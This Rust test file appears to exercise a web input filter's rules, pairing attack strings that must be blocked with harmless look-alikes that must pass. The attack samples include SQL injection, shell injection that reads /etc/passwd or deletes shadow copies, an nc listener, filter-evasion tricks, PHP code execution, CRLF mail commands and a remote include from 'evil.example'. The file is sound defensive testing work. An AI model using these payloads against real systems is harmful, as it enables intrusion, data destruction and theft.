//! Round-4 rules (issue 5): for each, attacks of the class asserted blocked *by that rule*,
//! and benign twins that share its words or characters asserted allowed.

mod common;

use common::{attack, benign};

#[test]
fn sqli_125_dynamic_sql() {
    attack(
        "sqli-125",
        "query",
        "q",
        "1; EXECUTE IMMEDIATE 'DROP USER x'",
    );
    attack(
        "sqli-125",
        "form",
        "id",
        "1 procedure analyse(extractvalue(1,1),1)",
    );
    attack(
        "sqli-125",
        "json",
        "q",
        "x'; declare @s varchar(8000) set @s=0x73",
    );
    attack("sqli-125", "query", "q", "1;exec master..xp_regread");
    benign(
        "json",
        "note",
        "Please execute immediately after the review.",
    );
    benign(
        "form",
        "comment",
        "The procedure analysis is attached. I declare @john the winner of the raffle.",
    );
}

#[test]
fn sqli_126_glued_stacked_statement() {
    attack("sqli-126", "query", "id", "1;drop table users");
    attack("sqli-126", "query", "id", "1;drop");
    attack(
        "sqli-126",
        "form",
        "name",
        "x';update users set role='admin'",
    );
    attack("sqli-126", "query", "q", "1;SET @OLD_SQL_MODE=@@SQL_MODE");
    benign(
        "json",
        "note",
        "Fixed the bug; update the docs and drop a note in the channel.",
    );
    benign("query", "path", "/api;delete=false");
}

#[test]
fn sqli_127_quote_then_boolean_fragment() {
    attack("sqli-127", "query", "name", "' or abc!");
    attack("sqli-127", "form", "id", "xor 2 <");
    attack("sqli-127", "json", "q", "\" and x-1");
    benign(
        "json",
        "note",
        "or 2-3 business days, whichever comes first",
    );
    benign("query", "q", "' or else, he said");
}

#[test]
fn sqli_128_operators_on_subexpressions() {
    attack("sqli-128", "query", "q", "1) like (select 1)");
    attack(
        "sqli-128",
        "form",
        "sort",
        "(case id) when 1 then name else email end",
    );
    attack("sqli-128", "query", "id", "1 and if(1=1,sleep(0),0)");
    benign(
        "json",
        "note",
        "(if you like (and only if you like) we can meet)",
    );
    benign("json", "code", "if (x == 1) { run(a, b); }");
}

#[test]
fn sqli_129_quote_then_statement_keyword() {
    attack("sqli-129", "query", "q", "' union/**/all select 1");
    attack("sqli-129", "form", "name", "'ALTER TABLE users");
    benign("query", "q", "\"union square\" hotels");
    benign("json", "title", "'Union' and 'Alter' are both words");
}

#[test]
fn cmdi_120_shell_expansions() {
    attack("cmdi-120", "query", "f", "diff <(cat /etc/passwd) x");
    attack("cmdi-120", "form", "n", "$((1+$(id -u)))");
    attack("cmdi-120", "query", "p", "${PATH%%:*}");
    attack("cmdi-120", "query", "x", "{,cat,/etc/passwd}");
    benign("json", "template", "Hello ${name}, your total is ${total}");
    benign("query", "glob", "src/**/*.{js,ts}");
    benign("json", "note", "ok >(two) or three, <(b)");
}

#[test]
fn cmdi_121_bracket_globs_in_system_paths() {
    attack("cmdi-121", "query", "s", "/etc/pas[s]wd");
    attack("cmdi-121", "query", "exec", "/bi[n]/bash");
    attack("cmdi-121", "form", "shell", "/usr/[a-z]in/bash -c id");
    benign("json", "route", "/blog/[slug]/comments");
    benign("json", "pointer", "/items[0]/name");
}

#[test]
fn cmdi_122_windows_admin_tools() {
    attack(
        "cmdi-122",
        "query",
        "cmd",
        "; regedit /E c:\\out.reg HKEY_CURRENT_USER",
    );
    attack(
        "cmdi-122",
        "form",
        "x",
        "& vssadmin delete shadows /all /quiet",
    );
    attack(
        "cmdi-122",
        "query",
        "x",
        "|schtasks /create /tn x /tr c:\\x.exe",
    );
    benign(
        "json",
        "note",
        "Use the registry editor (regedit) to check the value.",
    );
    benign("json", "note", "Attribute names are listed in the schema.");
}

#[test]
fn php_107_process_function_on_command_word() {
    attack("php-107", "form", "cmd", "system(whoami)");
    attack("php-107", "query", "x", "passthru (id)");
    benign("json", "note", "The system (id card reader) is down.");
    benign("json", "code", "stmt.exec(id)");
}

#[test]
fn php_108_variable_variables() {
    attack("php-108", "query", "foo", "${'ff'}");
    attack("php-108", "query", "foo", "${$a}");
    attack("php-108", "query", "x", "(sy.(st).em)('uname');");
    benign("json", "template", "Total: ${amount}, tax ${tax} included");
    benign("json", "note", "(a.b) ('quoted') text");
}

#[test]
fn code_108_reference_path_to_constructor() {
    attack("code-108", "json", "then", "$1:constructor:constructor");
    attack("code-108", "json", "reason", "$7:Module:prototype");
    benign("json", "price", "$5:00 per constructor hour");
    benign(
        "json",
        "note",
        "Call the constructor with $1 as the first argument.",
    );
}

#[test]
fn crlf_105_mail_commands() {
    attack("crlf-105", "query", "attackme", "\r\nRETR 123");
    attack(
        "crlf-105",
        "query",
        "attackme",
        "\r\nAPOP user 7d0a3bd8e5b2abcfb3e256633c23b891",
    );
    attack("crlf-105", "form", "t", "\r\na001 authenticate PLAIN\r\n");
    benign(
        "form",
        "comment",
        "Top picks:\r\nTop 10 list\r\nRetro games",
    );
}

#[test]
fn ssrf_container_host_names() {
    attack(
        "ssrf-001",
        "query",
        "url",
        "http://kubernetes.docker.internal/",
    );
    benign(
        "query",
        "url",
        "https://docs.docker.com/desktop/networking/",
    );
}

#[test]
fn cmdi_123_launchers() {
    attack("cmdi-123", "form", "code", "nohup who");
    attack("cmdi-123", "query", "foo", "ti''me curl example.org");
    attack("cmdi-123", "query", "foo", "; strace -f id");
    benign("json", "note", "Time who you are with, not what you do.");
    benign(
        "json",
        "note",
        "time curl requests against staging before the release",
    );
}

#[test]
fn cmdi_124_in_word_evasion() {
    attack("cmdi-124", "form", "cmd", "cu$@rl example.org");
    attack("cmdi-124", "query", "x", "ping`` 127.0.0.1");
    attack(
        "cmdi-124",
        "query",
        "cmd",
        "\"\"p\"\"y\"\"t\"\"h\"\"o\"\"n\"\"3",
    );
    benign("json", "name", "O''Brien");
    benign("json", "note", "She said \"\"hello\"\" twice, price US$5");
}

#[test]
fn session_001_framework_session_key() {
    attack(
        "session-001",
        "query",
        "jsessionid",
        "74B0CB414BD77D17B5680A6386EF1666",
    );
    attack("session-001", "json", "PHPSESSID", "abc123");
    benign("query", "session_id", "cs_test_a1b2c3");
    benign("json", "sessionTimeout", "30m");
}

#[test]
fn session_101_cookie_setting_value() {
    attack(
        "session-101",
        "query",
        "x",
        "<script>document.cookie=\"sid=1; expires=Fri, 01 Jan 2038\"</script>",
    );
    attack(
        "session-101",
        "form",
        "x",
        "<meta http-equiv=\"Set-Cookie\" content=\"sid=1\">",
    );
    benign(
        "json",
        "note",
        "Cookie banner: expires in 30 days; path to settings is /me",
    );
    benign(
        "json",
        "note",
        "Set a cookie that expires in 30 days (path=/, domain=example.com).",
    );
}

#[test]
fn sqli_130_quote_boolean_function_terminated() {
    attack(
        "sqli-130",
        "form",
        "email",
        "admin@example.com' or json_valid(id);",
    );
    attack("sqli-130", "query", "q", "x' and glob(id,id)--");
    benign(
        "json",
        "note",
        "Ask the parents' or guardians (optional) consent.",
    );
    benign("json", "note", "Use 'or' with count(*); it is faster");
}

#[test]
fn rfi_103_ipv6_literal_host() {
    attack(
        "rfi-103",
        "query",
        "src",
        "https://[2001:db8:701:1100::29c8]/gecko.php",
    );
    benign("query", "src", "https://[2001:db8::1]:8443/healthz");
}

#[test]
fn cmdi_125_tool_glued_to_separator() {
    attack("cmdi-125", "form", "arg", ";ssh-copy-id user@server");
    attack("cmdi-125", "query", "arg", "x&&pip install something");
    attack("cmdi-125", "query", "arg", "1;lastlog");
    attack("cmdi-120", "form", "cmd", "{nc,-nlvp,777}");
    benign("json", "table", "| cat | dog |\n| 1 | 2 |");
    benign("json", "note", "Fixed; top priority now. R&D signed off.");
    benign("form", "csv_header", "name;email;phone;status");
    benign("json", "note", "Tom & Jerry; cat and mouse");
}

#[test]
fn lfi_110_hex_literal_separators() {
    attack("lfi-110", "query", "file", "0x2e0x2e0x2fetc0x2fpasswd");
    attack("lfi-110", "header", "x-file", "0x5c0x2e./");
    benign(
        "json",
        "note",
        "0x2e is the dot and 0x2f the slash in ASCII",
    );
    benign("json", "color", "0x2e2f5c");
}

#[test]
fn rfi_001_remote_url_in_include_parameter() {
    // The warning joins another RFI shape: a text file from another host (`rfi-102`).
    attack(
        "rfi-001",
        "query",
        "page",
        "http://evil.example/payload.txt",
    );
    attack("rfi-001", "form", "lang", "ftp://files.example.net/en.inc");
    benign("query", "file", "https://cdn.example.com/uploads/photo.png");
    benign("json", "redirect", "http://example.org/notes.txt");
}
